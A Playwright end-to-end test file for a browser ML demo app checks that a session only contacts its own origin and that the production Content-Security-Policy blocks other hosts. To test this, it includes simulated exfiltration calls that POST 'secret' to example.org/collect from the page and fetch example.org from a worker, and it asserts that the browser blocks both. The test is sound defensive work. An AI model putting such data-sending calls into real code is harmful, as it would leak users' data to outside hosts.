/**
 * Nothing leaves the machine: a whole session touches only the page's own origin, and the production
 * build sends a Content-Security-Policy that makes the browser refuse anything else but the
 * configured Hugging Face hub (public model files; tests/e2e/hub.spec.ts covers a hub session).
 */
import { test, expect, waitForModel, openModelFiles, compareOpenModel } from './fixtures';
import { resolve } from 'node:path';
import { hubEnvFor } from '../../scripts/hub-server.mjs';

const modelFile = (file: string) => resolve(import.meta.dirname, '..', '..', 'public', 'models', file);

test('classify, benchmark, open a model and run a gallery task: every request stays on the page origin', async ({ page, context, baseURL, pageErrors }) => {
  test.setTimeout(180_000);
  const requests: string[] = [];
  context.on('request', (request) => requests.push(request.url()));
  const own = (url: string) => url.startsWith(`${baseURL}/`) || url.startsWith('data:') || url.startsWith('blob:');

  await page.goto('/');
  await waitForModel(page);
  await page.getByRole('button', { name: 'Eagle' }).click();
  await expect(page.getByRole('list', { name: 'Top-5 predictions' })).toContainText('bald eagle');

  await page.goto('/?view=compare&backends=wasm&threads=1&warmup=1&runs=3');
  await openModelFiles(page, modelFile('mnist-8.onnx'));
  await expect(page.getByRole('region', { name: 'Model details' })).toContainText('CNTK');
  await compareOpenModel(page);
  await page.getByRole('button', { name: 'Run benchmark' }).click();
  await expect(page.getByRole('table', { name: 'Output summary' })).toBeVisible({ timeout: 60_000 });

  await page.goto('/?view=gallery');
  const faces = page.getByRole('region', { name: 'Face detection' });
  await faces.getByRole('button', { name: 'messi5.jpg' }).click();
  await expect(faces.getByRole('list', { name: 'Detections' })).toContainText('face');

  expect(requests.length).toBeGreaterThan(10);
  expect(requests.filter((url) => !own(url))).toEqual([]);
  expect(pageErrors).toEqual([]);
});

test('the production build sends a Content-Security-Policy that blocks other origins', async ({ page }) => {
  const response = await page.goto('/');
  const policy = response!.headers()['content-security-policy'];
  expect(policy).toContain("connect-src 'self'");
  expect(policy).toContain("default-src 'self'");
  // connect-src: this origin, and the hub this build was made for (the local test hub here), nothing else.
  const { HUB_ENDPOINT, HUB_CDN_ORIGINS } = hubEnvFor(new URL(page.url()).port);
  const connect = policy.split('; ').find((d) => d.startsWith('connect-src '))!.split(' ').slice(1);
  expect(connect.filter((source) => !["'self'", 'blob:', 'data:', HUB_ENDPOINT, ...HUB_CDN_ORIGINS.split(',')].includes(source))).toEqual([]);
  // A script on the page trying to send data elsewhere is stopped by the browser, before any request.
  const outcome = await page.evaluate(async () => {
    const violation = new Promise<string>((resolve) => document.addEventListener('securitypolicyviolation', (e) => resolve(`${e.violatedDirective} ${e.blockedURI}`)));
    const sent = await fetch('https://example.org/collect', { method: 'POST', body: 'secret' }).then(() => 'sent', () => 'failed');
    return { sent, violation: await violation };
  });
  expect(outcome.sent).toBe('failed');
  expect(outcome.violation).toMatch(/^connect-src https:\/\/example\.org/);
  // And from a worker, where the models are fetched.
  const fromWorker = await page.evaluate(async () => {
    const source = `fetch('https://example.org/w').then(() => postMessage('sent'), () => postMessage('failed'))`;
    // A same-origin module worker would need a file; a blob worker inherits the page's policy.
    const worker = new Worker(URL.createObjectURL(new Blob([source], { type: 'text/javascript' })));
    return new Promise((resolve) => (worker.onmessage = (e) => resolve(e.data)));
  });
  expect(fromWorker).toBe('failed');
});
